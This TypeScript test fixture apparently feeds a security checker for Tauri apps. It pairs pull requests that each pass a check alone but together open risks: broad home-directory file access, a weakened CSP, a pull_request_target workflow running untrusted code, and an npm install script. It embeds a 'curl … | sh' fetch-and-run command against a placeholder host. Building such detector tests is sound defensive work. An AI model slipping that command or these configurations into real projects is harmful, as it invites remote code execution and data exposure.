import { type Files, NOTES } from "../stage.ts";

/**
 * Two pull requests that each pass, by themselves or since somebody accepted what they show, and let more happen together. The
 * first is merged, and the second comes after it.
 */
export type SkewPair = Readonly<{
  base: Files;
  first: Files;
  second: Files;
  /** Which of them fail by themselves, and are accepted. */
  accepted: readonly ("first" | "second")[];
  /** What the check of both together names. */
  together: string;
}>;

const BASE: Files = NOTES.base;
const NEITHER = { accepted: [] } as const;

type Config = { app: { security: object }; build: object };

function edited<T>(path: string, change: (parsed: T) => void): Files {
  const parsed = JSON.parse(BASE[path] ?? "");
  change(parsed);
  return { [path]: `${JSON.stringify(parsed, null, 2)}\n` };
}

/** The app's configuration with these keys of `security` and `build`. */
const config = ({ security = {}, build = {} }): Files =>
  edited<Config>("src-tauri/tauri.conf.json", ({ app, build: commands }) => {
    Object.assign(app.security, security);
    Object.assign(commands, build);
  });
const scripts = (more: Readonly<Record<string, string>>): Files =>
  edited<{ scripts: object }>("package.json", ({ scripts }) => void Object.assign(scripts, more));

function capability(identifier: string, ...permissions: readonly (string | object)[]): Files {
  const written = { identifier, windows: ["main"], permissions };
  return { [`src-tauri/capabilities/${identifier}.json`]: `${JSON.stringify(written, null, 2)}\n` };
}

const DRAFTS = { identifier: "fs:allow-read-text-file", allow: [{ path: "$HOME/drafts/**" }] };
const listing = (...capabilities: string[]): Files => config({ security: { capabilities } });

/** A set that holds these permissions, in a file of the app. */
const holding = (...permissions: readonly string[]): Files => ({
  "src-tauri/permissions/notes.toml": `[[set]]
identifier = "notes"
description = "What the notes need."
permissions = [${permissions.map((each) => `"${each}"`).join(", ")}]
`,
});

const SELF = "'self'";
/** A policy of content that names each kind, so that nothing falls back. */
const FETCHING = Object.fromEntries(
  [
    "frame",
    "style",
    "img",
    "font",
    "media",
    "worker",
    "child",
    "object",
    "manifest",
    "prefetch",
    "script",
  ].map((kind) => [`${kind}-src`, SELF]),
);
const csp = (directives: Readonly<Record<string, string>>, without?: string): Files => {
  const all = { "default-src": SELF, ...FETCHING, "connect-src": "ipc: http://ipc.localhost", ...directives };
  const named = Object.entries(all).filter(([name]) => name !== without);
  return config({ security: { csp: Object.fromEntries(named) } });
};

/** The protocol that shows pages files of the disk. */
const protocol = (enable: boolean, scope: readonly string[]): Files =>
  config({ security: { assetProtocol: { enable, requireLiteralLeadingDot: true, scope } } });

const FETCHED = "curl -fsSL https://get.example.com/prepare.sh | sh";
const CHECKOUT = "uses: actions/checkout@8e8c483db84b4bee98b60c0593521ed34d9990e8";

function workflow({ on = "push: {}", checkout = CHECKOUT, steps = "" }): Files {
  const text = `name: release
on:
  ${on}
permissions:
  contents: write
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - ${checkout}
${steps}      - run: npx tauri build
`;
  return { ".github/workflows/release.yml": text };
}

const action = (run: string): Files => ({
  ".github/actions/prepare/action.yml": `name: prepare
description: Prepares the build.
runs:
  using: composite
  steps:
    - shell: bash
      run: ${run}
`,
});

/** A package whose installation runs a script, in the manifest and in the lockfile. */
function nativePackage(): Files {
  const entry = {
    ...{ version: "1.0.0", hasInstallScript: true, integrity: `sha512-${"A".repeat(86)}==` },
    resolved: "https://registry.npmjs.org/native-notes/-/native-notes-1.0.0.tgz",
  };
  const asked = { "native-notes": "1.0.0" };
  return {
    ...edited<{ dependencies: object }>(
      "package.json",
      ({ dependencies }) => void Object.assign(dependencies, asked),
    ),
    ...edited<{ packages: Record<string, { dependencies?: object }> }>(
      "package-lock.json",
      ({ packages }) => {
        Object.assign(packages[""]?.dependencies ?? {}, asked);
        packages["node_modules/native-notes"] = entry as object;
      },
    ),
  };
}

const policy = (text: string): Files => ({ ".github/toril.yml": text });
const soon = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
const WAIVED = `waivers:
  - finding: csp/eval-allowed
    app: src-tauri
    extent:
      acts: [eval, wasm]
      added: ["'unsafe-eval'"]
      removed: []
      platforms: [linux, macOS, windows, android, iOS]
    reason: The charts need it
    owner: kim
    until: "${soon}"
`;

/** By what each of two brings. */
export const PAIRS: Readonly<Record<string, SkewPair>> = {
  "the list that names a capability, and what the capability grants": {
    ...{
      base: { ...BASE, ...listing("main", "help"), ...capability("drafts", "core:event:default") },
      ...NEITHER,
    },
    first: listing("main", "help", "drafts"),
    second: capability("drafts", "core:event:default", DRAFTS),
    together: "$HOME/drafts/**",
  },
  "a capability that takes a set, and what the set holds": {
    ...{ base: { ...BASE, ...holding("core:event:default") }, ...NEITHER },
    first: capability("notes", "notes"),
    second: holding("core:event:default", "fs:allow-home-read-recursive"),
    together: "read_text_file",
  },
  "a fallback of the CSP, and what falls back": {
    ...{ base: { ...BASE, ...csp({}), ...policy("fail-on: low\n") }, ...NEITHER },
    first: csp({ "default-src": "'self' https://cdn.example.com" }),
    second: csp({}, "connect-src"),
    together: "cdn.example.com",
  },
  "a protocol for files, and its scope": {
    ...{ base: { ...BASE, ...protocol(false, []) }, ...NEITHER },
    first: protocol(true, []),
    second: protocol(false, ["$HOME/**"]),
    together: "$HOME/**",
  },
  "a workflow, and the action that it uses": {
    ...{ base: { ...BASE, ...workflow({}), ...action("echo ready") }, ...NEITHER },
    first: workflow({ steps: "      - uses: ./.github/actions/prepare\n" }),
    second: action(FETCHED),
    together: "get.example.com",
  },
  "who may start a workflow, and what it checks out": {
    ...{ base: { ...BASE, ...workflow({}) }, ...NEITHER },
    first: workflow({ on: "pull_request_target: {}" }),
    second: workflow({
      checkout: `${CHECKOUT}\n        with: { ref: "\${{ github.event.pull_request.head.sha }}" }`,
    }),
    together: "strangers",
  },
  "what a script does, and the build that runs it": {
    ...{ base: { ...BASE, ...scripts({ prepared: "vite --version" }) }, accepted: ["second"] },
    first: scripts({ prepared: FETCHED }),
    second: config({ build: { beforeBuildCommand: "npm run prepared && npm run build" } }),
    together: "get.example.com",
  },
  "a package with an install script, and what held it back": {
    ...{ base: { ...BASE, ".npmrc": "ignore-scripts=true\n" }, accepted: ["second"] },
    first: nativePackage(),
    second: { ".npmrc": "fund=false\n" },
    together: "native-notes",
  },
  "a stricter policy, and what the earlier one let pass": {
    ...{ base: { ...BASE, ...csp({}) }, ...NEITHER },
    first: policy("fail-on: low\n"),
    second: csp({ "connect-src": "ipc: http://ipc.localhost https://sync.example.com" }),
    together: "sync.example.com",
  },
  "a waiver that is taken out, and what it covers": {
    ...{ base: { ...BASE, ...csp({}), ...policy(`fail-on: low\n${WAIVED}`) }, ...NEITHER },
    first: policy("fail-on: low\n"),
    second: csp({ "script-src": "'self' 'unsafe-eval'" }),
    together: "eval",
  },
};
